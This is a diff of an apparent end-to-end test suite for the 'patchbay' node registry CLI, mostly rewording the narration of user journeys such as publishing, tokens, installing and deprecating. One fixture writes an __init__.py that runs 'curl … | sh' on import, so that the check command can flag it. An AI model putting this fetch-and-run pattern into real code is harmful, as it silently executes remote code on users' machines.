@@ -44,18 +44,18 @@ suite('the journeys of a node author', async () => {
 
   test('look around without an account', async (t) => {
     const { say, type, save, assertSame } = await open(t);
-    say('Just installed `patchbay`, and looks for a node that upscales.');
+    say('The author has just installed `patchbay` and looks for a node that upscales.');
     await type('patchbay search upscale', { code: 2 });
     await type(`export PATCHBAY_URL=${registry}`);
     await type('patchbay search upscale');
     await type('patchbay search uspcale');
     await type('patchbay serach upscale', { code: 2 });
-    say('Looks at what was found.');
+    say('The author looks at the result.');
     await type('patchbay show tiled-upscaler');
     await type('patchbay show tiled-upscalr', { code: 4 });
     await type('patchbay versions image-tools --changes');
     await type('patchbay diff image-tools 1.0.0 latest');
-    say('Has a workflow of somebody else.');
+    say('The author got a workflow from somebody else.');
     await save({ 'workflow.json': JSON.stringify(sampleWorkflow) });
     await type('patchbay resolve workflow.json', { code: 1 });
     await type('patchbay whoami', { code: 3 });
@@ -65,19 +65,19 @@ suite('the journeys of a node author', async () => {
   test('sign in and make a publisher', async (t) => {
     await server.user('lin');
     const { say, type, assertSame } = await open(t);
-    say('Has an account of the site. Enters the code there, on another screen.');
+    say('The author has an account on the site and enters the code there, on another screen.');
     await type(`patchbay login --registry ${registry}`, {
       answers: [['in the browser', false]],
       approvedBy: 'lin',
     });
     await type('patchbay whoami');
-    say('Wants to publish under a name of their own.');
+    say('The author wants to publish under a name of their own.');
     await type('patchbay publisher list');
     await type('patchbay publisher create "Lin\'s lab"', { code: 1 });
     await type('patchbay publisher create ada', { code: 5 });
     await type('patchbay publisher create lin-lab --name "The lab of Lin"');
     await type('patchbay publisher list');
-    say('Leaves the machine to others.');
+    say('The author leaves the machine to others.');
     await type('patchbay logout');
     await type('patchbay publisher list', { code: 3 });
     assertSame('author-sign-in', 'Sign in and make a publisher');
@@ -88,7 +88,7 @@ suite('the journeys of a node author', async () => {
     const { say, type, save, signIn, assertSame } = await open(t);
     await signIn('mira');
     await save({ '__init__.py': appNodeSource, 'requirements.txt': 'numpy>=1.25\n' });
-    say('Is signed in, and has a folder with the code of a node.');
+    say('The author is signed in and has a folder with the code of a node.');
     await type('cat __init__.py');
     await type('patchbay publish', { code: 2 });
     await type('patchbay init --description "Resizes pictures." --license MIT', {
@@ -101,13 +101,13 @@ suite('the journeys of a node author', async () => {
     await type('patchbay check');
     await type('patchbay pack --list');
     await type('patchbay publish --dry-run');
-    say('Is asked once, and finds a file that is for nobody else.');
+    say('The question lists the files, and one of them is private.');
     await save({ 'notes.txt': 'Ask Lin about masks.\n' });
     await type('patchbay publish', { code: 130, answers: [['Publish these files?', false]] });
     await type('rm notes.txt');
     await type('patchbay publish', { answers: [['Publish these files?', true]] });
     await type('patchbay show mira-resize');
-    say('Is not sure whether it worked, and types it again.');
+    say('The author is not sure whether it worked and runs it again.');
     await type('patchbay publish');
     assertSame('author-first-node', 'A first node, from nothing to published');
   });
@@ -120,22 +120,22 @@ suite('the journeys of a node author', async () => {
       'aux.txt': '',
       '.env': 'TOKEN=x\n',
     });
-    say('Has a folder that never was checked. No registry is needed for that.');
+    say('The author has a folder that was never checked. The check needs no registry.');
     await type('cat pyproject.toml');
     await type('patchbay check', { code: 1 });
-    say('Corrects the id and the version, and removes `aux.txt`.');
+    say('The author corrects the id and the version, and removes `aux.txt`.');
     await type('rm aux.txt');
     await save({ 'pyproject.toml': projectText('my-node', 'mira-lab') });
     await type('patchbay check');
-    say('Closes the bracket, and defines the class. Downloads a model while it is imported.');
+    say('The author closes the bracket and defines the class, which downloads a model on import.');
     await save({
       '__init__.py': `import os\n\nos.system("curl https://example.org/model.sh | sh")\n\n${appNodeSource}`,
     });
     await type('patchbay check', { code: 1 });
-    say('Leaves the download to the person who installs it.');
+    say('The author removes the download.');
     await save({ '__init__.py': appNodeSource });
     await type('patchbay check');
-    assertSame('author-faulty-folder', 'Check a folder with faults, and mend it');
+    assertSame('author-faulty-folder', 'Check a faulty folder and fix it');
   });
 
   test('a second version', async (t) => {
@@ -145,12 +145,12 @@ suite('the journeys of a node author', async () => {
     const { say, type, save, signIn, assertSame } = await open(t);
     await signIn('noor');
     await save({ ...first, '__init__.py': appNodeSource.replaceAll('width', 'size') });
-    say('Has published 1.0.0, and has renamed the input `width` to `size` since.');
+    say('The author has published 1.0.0 and since renamed the input `width` to `size`.');
     await type('patchbay publish', { code: 5 });
     await type('patchbay diff noor-resize latest .');
     await type('patchbay version patch');
     await type('patchbay publish --dry-run');
-    say('Takes the warning to heart.');
+    say('The author follows the warning.');
     await type('patchbay version 2.0.0');
     await type('patchbay publish --changelog "The input width is called size."');
     await type('patchbay versions noor-resize --changes');
@@ -163,16 +163,16 @@ suite('the journeys of a node author', async () => {
     const { say, type, save, signIn, assertSame } = await open(t);
     await signIn('omar');
     await save({ 'pyproject.toml': projectText('omar-resize', 'omar-lab'), '__init__.py': appNodeSource });
-    say('Makes a token for a CI.');
+    say('The author creates a token for a CI.');
     await type('patchbay token create', { answers: [['What is the token for?', 'ci']] });
     const created = await type('patchbay token create --name ci --node omar-resize --expires 30');
     const token = lastWord(created);
     await type('patchbay token list');
-    say('Copies it without its end.');
+    say('The last characters are lost when it is copied.');
     await type(`PATCHBAY_TOKEN=${token.slice(0, -4)} patchbay whoami`, { code: 3 });
     await type(`PATCHBAY_TOKEN=${token} patchbay whoami`);
     await type(`PATCHBAY_TOKEN=${token} patchbay publisher create other-lab`, { code: 3 });
-    say('Sees it in a log of the CI, and revokes it.');
+    say('The token appears in a log of the CI, and the author revokes it.');
     const id = /^Id\s+(\S+)$/m.exec(created)?.[1] ?? '';
     await type(`patchbay token revoke ${id}`, { answers: [['Revoke', true]] });
     await type(`PATCHBAY_TOKEN=${token} patchbay publish`, {
@@ -180,7 +180,7 @@ suite('the journeys of a node author', async () => {
       answers: [['Publish these files?', true]],
     });
     await type(`PATCHBAY_TOKEN=${token} patchbay check`, { code: 1 });
-    say('Without it, the login counts.');
+    say('Without it, the login is used.');
     await type('patchbay publish --yes');
     assertSame('author-tokens', 'Tokens that do not work');
   });
@@ -199,7 +199,7 @@ suite('the journeys of a node author', async () => {
     for (const version of ['1.0.0', '1.1.0']) await publish(version);
     const { say, type, save, assertSame } = await open(t);
     await save({ 'custom_nodes/notes.txt': '' });
-    say('Is in the folder of the host, and needs no account.');
+    say('The author is in the folder of the host and needs no account.');
     await type(`export PATCHBAY_URL=${registry}`);
     await type('patchbay list');
     await type('patchbay install pia-resise', { code: 4 });
@@ -208,11 +208,11 @@ suite('the journeys of a node author', async () => {
     await type('patchbay info pia-resize');
     await type('patchbay outdated', { code: 1 });
     await type('patchbay update');
-    say('Wanted 1.0.0 then. Now takes whatever is new within 1.');
+    say('The author asked for 1.0.0 then, and now takes any newer 1.x.');
     await type('patchbay install pia-resize@^1');
     await publish('1.2.0');
     await type('patchbay outdated', { code: 1 });
-    say('Has changed a file.');
+    say('The author has changed a file.');
     await save({ 'custom_nodes/pia-resize/version.py': 'VERSION = "mine"\n' });
     await type('patchbay update', { code: 5 });
     await type('patchbay verify', { code: 1 });
@@ -248,7 +248,7 @@ suite('the journeys of a node author', async () => {
       entries: { [found.id]: found },
     });
     const { say, type, assertSame } = await open(t, { 'https://api.osv.dev': osv.url });
-    say('Wants to know what a node brings along.');
+    say('The author wants to know what a node depends on.');
     await type(`export PATCHBAY_URL=${registry}`);
     await type('patchbay audit', { code: 4 });
     await type('patchbay install quin-resize');
@@ -268,18 +268,18 @@ suite('the journeys of a node author', async () => {
       });
     const { say, type, signIn, assertSame } = await open(t);
     await signIn('rosa');
-    say('Has published 1.0.1 to correct 1.0.0, which loses colors.');
+    say('The author has published 1.0.1, which fixes the lost colors of 1.0.0.');
     await type('patchbay deprecate rosa-resize', { code: 2 });
     await type('patchbay deprecate rosa-resize@1.0.0', { answers: [['Why', 'It loses colors. Use 1.0.1.']] });
-    say('Sees what others see.');
+    say('The author looks at what others see.');
     await type('patchbay install rosa-resize@1.0.0');
     await type('patchbay outdated', { code: 1 });
     await type('patchbay versions rosa-resize');
-    say('Decides that nobody should get 1.0.0 any more.');
+    say('Nobody should install 1.0.0 any more.');
     await type('patchbay delete rosa-resize@1.0.0', { answers: [['Type', 'rosa-resize@1.0.0']] });
     await type('patchbay install rosa-resize@1.0.0 --into elsewhere', { code: 3 });
     await type('patchbay restore rosa-resize@1.0.0 --reason "A mistake."', { code: 3 });
-    say('Deletes all of it, and comes back.');
+    say('The author deletes the node and restores it.');
     await type('patchbay delete rosa-resize', { answers: [['Type', 'rosa-resize']] });
     await type('patchbay show rosa-resize', { code: 4 });
     await type('patchbay restore rosa-resize --publisher rosa-lab');
@@ -295,7 +295,7 @@ suite('the journeys of a node author', async () => {
     const { say, type, save, signIn, assertSame } = await open(t, { 'https://ci.example.org': state.url });
     await signIn('sami');
     await save({ 'pyproject.toml': projectText('sami-resize', 'sami-lab'), '__init__.py': appNodeSource });
-    say('Lets the workflow `publish.yml` of a repository publish.');
+    say('The author lets the workflow `publish.yml` of a repository publish.');
     await type('patchbay trust list');
     await type('patchbay trust add', { code: 2 });
     await type('patchbay trust add octo-org/octo-repo');
@@ -314,7 +314,7 @@ suite('the journeys of a node author', async () => {
     await type('patchbay trust check');
     await type('patchbay publish --format github');
     await type('patchbay show sami-resize');
-    say('At home, lets no stored token publish it any more.');
+    say('Back home, the author turns stored tokens off for the node.');
     await type('export PATCHBAY_ID_TOKEN=');
     await type('export GITHUB_ACTIONS=');
     await type('patchbay login', { answers: [['in the browser', false]], approvedBy: 'sami' });
